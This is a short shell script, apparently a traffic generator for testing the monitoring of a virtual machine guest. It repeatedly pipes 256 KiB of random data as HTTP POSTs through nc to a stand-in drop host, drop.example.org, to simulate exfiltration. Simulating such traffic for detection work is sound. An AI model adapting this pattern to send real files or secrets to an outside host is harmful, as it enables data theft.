#!/bin/sh
# exfiltration.sh SECONDS - uploads 256 KiB after 256 KiB to a server that the guest never spoke to.
end=$(($(date +%s) + $1))
while [ "$(date +%s)" -lt "$end" ]; do
  {
    printf 'POST /in HTTP/1.1\r\nHost: drop.example.org\r\nContent-Length: 262144\r\nConnection: close\r\n\r\n'
    head -c 262144 /dev/urandom
  } | nc -w 5 drop.example.org 8000 >/dev/null
  usleep 700000
done
